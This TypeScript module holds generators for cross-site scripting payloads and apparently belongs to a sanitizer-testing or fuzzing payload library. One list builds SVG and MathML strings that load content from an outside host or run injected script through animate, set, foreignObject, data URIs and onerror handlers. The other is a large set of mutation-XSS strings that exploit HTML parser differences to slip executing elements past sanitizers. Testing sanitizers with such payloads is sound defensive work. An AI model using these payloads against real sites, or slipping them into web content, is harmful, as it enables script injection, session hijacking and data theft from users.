/** Drawings, formulas, and HTML that changes when it is parsed again. */
import type { Make } from "./payload.ts";

/** Drawings and formulas. */
export const drawings: Make[] = [
  ..."fill stroke mask clip-path filter marker-start marker-mid marker-end cursor"
    .split(" ")
    .flatMap((name): Make[] => [
      (_, host) => `<svg width="20" height="20"><path d="M0 0h9v9z" ${name}="url(${host}/x.svg#a)"/></svg>`,
      (_, host) => `<svg width="20" height="20"><path d="M0 0h9v9z" ${name}="URL('${host}/x.svg#a')"/></svg>`,
      (_, host) =>
        `<svg width="20" height="20"><path d="M0 0h9v9z" ${name}="u\\72l(${host}/x.svg#a)"/></svg>`,
      (_, host) =>
        `<svg width="20" height="20"><path d="M0 0h9v9z" ${name}="url(/**/${host}/x.svg#a)"/></svg>`,
      (_, host) =>
        `<svg width="20" height="20"><path d="M0 0h9v9z" ${name}="url(#b) url(&quot;${host}/x.svg#a&quot;)"/></svg>`,
      (_, host) =>
        `<svg width="20" height="20"><path d="M0 0h9v9z" ${name}="image-set(&quot;${host}/x.png&quot; 1x)"/></svg>`,
    ]),
  (_, host) => `<svg><image href="${host}/x.png" width="9" height="9"/></svg>`,
  (_, host) => `<svg><image xlink:href="${host}/x.png" width="9" height="9"/></svg>`,
  (_, host) => `<svg><use href="${host}/x.svg#a"/></svg>`,
  (call) =>
    `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><script>${call}</script></svg>#x"/></svg>`,
  (call) => `<svg><animate attributeName="href" values="javascript:${call}" begin="0s"/></svg>`,
  (call) => `<svg><a><animate attributeName="href" to="javascript:${call}"/><text y="9">x</text></a></svg>`,
  (call) => `<svg><set attributeName="onclick" to="${call}"/></svg>`,
  (call) => `<svg><animate onbegin="${call}" attributeName="x" dur="1s"/></svg>`,
  (call) =>
    `<svg><foreignObject><iframe srcdoc="<script>parent.${call}</script>"></iframe></foreignObject></svg>`,
  (_, host) =>
    `<svg><filter id="f"><feImage href="${host}/x.png"/></filter><rect width="9" height="9" filter="url(#f)"/></svg>`,
  (call) => `<svg><desc><img src=x onerror=${call}></desc></svg>`,
  (call) => `<svg><title><img src=x onerror=${call}></title></svg>`,
  (call) => `<svg><style><img src=x onerror=${call}></style></svg>`,
  (call) => `<math><maction actiontype="statusline#javascript:${call}">x</maction></math>`,
  (call) =>
    `<math><annotation-xml encoding="text/html"><img src="data:," onerror="${call}"></annotation-xml></math>`,
  (_, host) => `<math><mglyph src="${host}/x.png"></mglyph></math>`,
];

/** What one parser reads as text, and the next one as an element. */
export const mutations: Make[] = [
  (call) => `<svg></p><style><a id="</style><img src=1 onerror=${call}>">`,
  (call) =>
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${call}&gt;">`,
  (call) => `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=${call}>`,
  (call) => `<svg><p><style><g title="</style><img src=x onerror=${call}>">`,
  (call) => `<noscript><style></noscript><img src=x onerror=${call}></style>`,
  (call) => `<xmp><p title="</xmp><img src=x onerror=${call}>">`,
  (call) => `<noembed><img title="</noembed><img src=x onerror=${call}>"></noembed>`,
  (call) => `<listing>&lt;img src=x onerror=${call}&gt;</listing>`,
  (call) => `<textarea></textarea><img src=x onerror=${call}></textarea>`,
  (call) => `<title><img title="</title><img src=x onerror=${call}>"></title>`,
  (call) => `<svg><![CDATA[<image xlink:href="]]><img src=xx:x onerror=${call}//"></svg>`,
  (call) =>
    `<svg><desc><svg><image><a><desc title='--><img src=1 onerror=${call}>'></desc></a></image></svg></desc></svg>`,
  (call) => `<!--><img src="data:," onerror=${call}>-->`,
  (call) => `<!--!><img src=x onerror=${call}>--!>`,
  (call) => `<![CDATA[<!--]]><img src=x onerror=${call}><!-- -->`,
  (call) => `<?x ><img src=x onerror=${call}> ?>`,
  (call) => `<!x '><img src=x onerror=${call}>'>`,
  (call) => `<p><marquee><p><marquee onstart=${call}>x`,
  (call) => `<table><tr><td><a><table><a href="javascript:${call}">x</a></table></a></td></tr></table>`,
  (call) => `<table><img src=x onerror=${call}><tr><td>x</td></tr></table>`,
  (call) => `<a href="#"><table><a href="javascript:${call}">x</a></table></a>`,
  (call) => `<b><p><i><b><p><i onclick=${call}>x</b></p></i></p>`,
  (call) => `<select><template><img src=x onerror=${call}></template></select>`,
  (call) => `<select><svg><style><img src=x onerror=${call}></style></svg></select>`,
  (call) => `<div><math><mi><div><svg><title><a onclick=${call}>x</a></title></svg></div></mi></math></div>`,
  (call) => `<svg><input>text<img src=x onerror=${call}></svg>`,
  (call) => `<p>a<object><p>b<img src=x onerror=${call}></object>c</p>`,
  (call) => `<frameset onload=${call}>`,
  (call) => `<body onload=${call}><html onclick=${call}>`,
  (call) => `<tr><td onclick=${call}>x</td></tr>`,
  (call) => `<li><li onclick=${call}>x`,
  (call) => `<pre>\n\n<img src=x onerror=${call}></pre>`,
  (call) =>
    `<svg><svg><b><noscript>&lt;/noscript&gt;&lt;img src=x onerror=${call}&gt;</noscript></b></svg></svg>`,
  (call) => `<div id="a"><style>/*</style><!-- --><img src=x onerror=${call}>*/</div>`,
  (call) => `<ruby><rtc><rt><rp><img src=x onerror=${call}></rp></rt></rtc></ruby>`,
];
